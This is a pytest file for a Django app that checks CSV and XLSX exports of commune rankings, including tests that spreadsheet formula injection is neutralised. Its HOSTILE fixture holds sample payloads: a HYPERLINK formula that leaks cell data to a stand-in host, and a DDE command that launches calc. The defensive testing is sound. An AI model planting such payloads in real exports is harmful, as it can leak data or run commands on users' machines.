"""The ◆ CSV and the XLSX, read back with csv and openpyxl."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models import Case, Value, When
from django.urls import reverse
from openpyxl import load_workbook

from communes.models import Unit

from reports.excel import DATA_SHEET, RANKING_SHEET, ranking_xlsx
from reports.exports import results_csv
from scoring.selectors import publication_for
from tabular.cells import csv_cell, looks_like_formula

from .builders import make_published_period

HEADER = (
    "commune_code,commune_name,total,index,rank,rank_of,classification,"
    + ",".join(f"{f}_score,{f}_rank,{f}_rank_of" for f in range(1, 11))
)


def test_csv_header_is_the_first_line_and_rows_follow_rank(publication):
    text = results_csv(publication)
    assert text.splitlines()[0] == HEADER
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 20
    ranks = [int(row["rank"]) for row in rows]
    assert ranks == sorted(ranks) and ranks[0] == 1
    assert all(row["rank_of"] == "20" for row in rows)


def test_csv_numbers_are_exact_with_dot_decimals(publication):
    reader = csv.DictReader(io.StringIO(results_csv(publication)))
    rows = {row["commune_code"]: row for row in reader}
    dong_tam = rows["A"]
    assert dong_tam["commune_name"] == "Xã Đồng Tâm"
    assert dong_tam["total"] == "87.747"  # exact, not the printed 87,75
    assert dong_tam["index"] == "87.747"
    assert (dong_tam["rank"], dong_tam["rank_of"]) == ("9", "20")
    assert dong_tam["classification"] == "Hoàn thành tốt nhiệm vụ"
    assert dong_tam["8_score"] == "1.577" and dong_tam["4_score"] == "6"
    assert dong_tam["4_rank"] == "1"
    assert all("," not in row["total"] for row in rows.values())
    assert sum(D(dong_tam[f"{f}_score"]) for f in range(1, 11)) == D(dong_tam["total"])


def test_xlsx_data_sheet_has_the_csv_columns_as_real_numbers(publication):
    workbook = load_workbook(io.BytesIO(ranking_xlsx(publication)))
    # Excel opens on the table for people; the data sheet, named in Vietnamese, comes second.
    assert workbook.sheetnames == ["Xếp hạng", "Dữ liệu"] == [RANKING_SHEET, DATA_SHEET]
    assert workbook.active.title == "Xếp hạng"
    data = workbook[DATA_SHEET]
    assert [cell.value for cell in data[1]] == HEADER.split(",")
    assert data.freeze_panes == "A2"
    rows = {row[0]: row for row in data.iter_rows(min_row=2, values_only=True)}
    dong_tam = rows["A"]
    assert isinstance(dong_tam[2], float) and abs(dong_tam[2] - 87.747) < 1e-9
    assert dong_tam[4:6] == (9, 20)
    assert len(rows) == 20


def test_xlsx_ranking_sheet_is_formatted_for_people(publication):
    publication = publication_for(publication.period)
    workbook = load_workbook(io.BytesIO(ranking_xlsx(publication)))
    sheet = workbook[RANKING_SHEET]
    heading = " ".join(str(sheet.cell(row, 1).value or "") for row in range(1, 5))
    assert "Lần công bố 1" in heading
    assert "Quyết định số 766/QĐ-UBND ngày 16/03/2023" in heading
    assert "Dữ liệu tại ngày" in heading
    header_row = next(row for row in range(1, 10) if sheet.cell(row, 1).value == "Xếp thứ")
    headers = [cell.value for cell in sheet[header_row]]
    assert headers[:3] == ["Xếp thứ", "Mã đơn vị", "Đơn vị"]
    assert "Tổng điểm" in headers and "Xếp loại" in headers
    assert sheet.freeze_panes == f"D{header_row + 1}"
    total_col = headers.index("Tổng điểm") + 1
    dong_tam = next(
        row for row in range(header_row + 1, header_row + 21) if sheet.cell(row, 2).value == "A"
    )
    total = sheet.cell(dong_tam, total_col)
    assert total.number_format == "0.00" and abs(total.value - 87.747) < 1e-9
    assert (sheet.cell(dong_tam, 4).value, sheet.cell(dong_tam, 5).value) == (11.84, "17/20")
    below = range(header_row + 21, sheet.max_row + 1)
    counts = {sheet.cell(row, 1).value: sheet.cell(row, 3).value for row in below}
    assert counts["Hoàn thành tốt nhiệm vụ"] == 14



# --- formula injection: every CSV and XLSX the app writes keeps text as text ---------------

HOSTILE = {
    "A": '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")',
    "B": "+1+cmd|' /C calc'!A0",
    "D1-X003": "@SUM(A1:A2)",
    "D1-X004": "-2+3",
}


@pytest.fixture
def hostile_publication(units):
    """The published period, with four communes named the way a spreadsheet runs formulas."""
    Unit.objects.filter(code__in=["A", "B"]).update(name=Case(
        *(When(code=code, then=Value(HOSTILE[code])) for code in ("A", "B"))
    ))
    for code in ("D1-X003", "D1-X004"):
        Unit(code=code, name=HOSTILE[code], kind="xa", parent=units["district"]).save()
    return make_published_period(units)


def test_results_csv_prefixes_formula_like_text_and_keeps_numbers(hostile_publication):
    rows = {row["commune_code"]: row for row in csv.DictReader(io.StringIO(results_csv(hostile_publication)))}
    for code, name in HOSTILE.items():
        assert rows[code]["commune_name"] == "'" + name
    assert rows["A"]["total"] == "87.747" and rows["A"]["rank"] == "9"
    # Numbers are never prefixed: every total, index and rank still reads as a number.
    for row in rows.values():
        assert D(row["total"]) and D(row["index"]) and int(row["rank"])


def test_results_xlsx_writes_formula_like_text_as_string_cells(hostile_publication):
    workbook = load_workbook(io.BytesIO(ranking_xlsx(hostile_publication)))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if cell.value in HOSTILE.values():
                    assert cell.data_type == "s" and cell.quotePrefix
                    found.setdefault(sheet.title, set()).add(cell.value)
    assert found == {DATA_SHEET: set(HOSTILE.values()), RANKING_SHEET: set(HOSTILE.values())}
    data = {row[0]: row for row in workbook[DATA_SHEET].iter_rows(min_row=2, values_only=True)}
    assert isinstance(data["A"][2], float) and data["A"][4] == 9  # numbers stay numbers


def test_period_table_csv_prefixes_formula_like_text(client, period, units, appraiser):
    Unit.objects.filter(code="A").update(name=HOSTILE["A"])
    Unit.objects.filter(code="D1").update(name=HOSTILE["D1-X003"])
    Unit.objects.filter(code="B").update(name=HOSTILE["D1-X004"])
    client.force_login(appraiser)
    response = client.get(reverse("scoring:period_csv", args=[period.code]))
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert rows["A"][1] == "'" + HOSTILE["A"] and rows["A"][2] == "'" + HOSTILE["D1-X003"]
    assert rows["B"][1] == "'" + HOSTILE["D1-X004"]
    assert not any(cell.startswith("'") for row in rows.values() for cell in row[4:12])  # numbers


@pytest.mark.parametrize("fmt", ["0", "1"])  # the admin's CSV, XLSX
def test_admin_exports_keep_formula_like_text_as_text_and_import_back(admin_client, units, fmt):
    Unit.objects.filter(code="A").update(name=HOSTILE["A"])
    Unit.objects.filter(code="B").update(name=HOSTILE["B"])
    response = admin_client.post("/admin/communes/unit/export/", {"format": fmt})
    assert response.status_code == 200
    if fmt == "0":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        names = {row[0]: row[1] for row in rows[1:]}
        assert names["A"] == "'" + HOSTILE["A"] and names["B"] == "'" + HOSTILE["B"]
        upload = SimpleUploadedFile("don-vi.csv", response.content)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
        for code in ("A", "B"):
            assert cells[code].value == HOSTILE[code] and cells[code].data_type == "s"
        upload = SimpleUploadedFile("don-vi.xlsx", response.content)
    # The file goes back in through the import page unchanged (the "'" is read as a marker).
    response = admin_client.post("/admin/communes/unit/import/", {"file": upload}, follow=True)
    assert "thêm mới 0, cập nhật 0, không đổi 6" in response.content.decode()


@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True), ("+1", True), ("-2+3", True), ("@SUM(A1)", True), ("\t=1", True),
        ("\r=1", True), ("-2,5", False), ("-15", False), ("Xã Đồng Tâm", False), ("", False),
        (D("-2.5"), False), (-3, False), (None, False),
    ],
)
def test_one_rule_says_what_a_spreadsheet_would_run(value, formula):
    assert looks_like_formula(value) is formula
    assert csv_cell(value) == ("'" + value if formula else value)
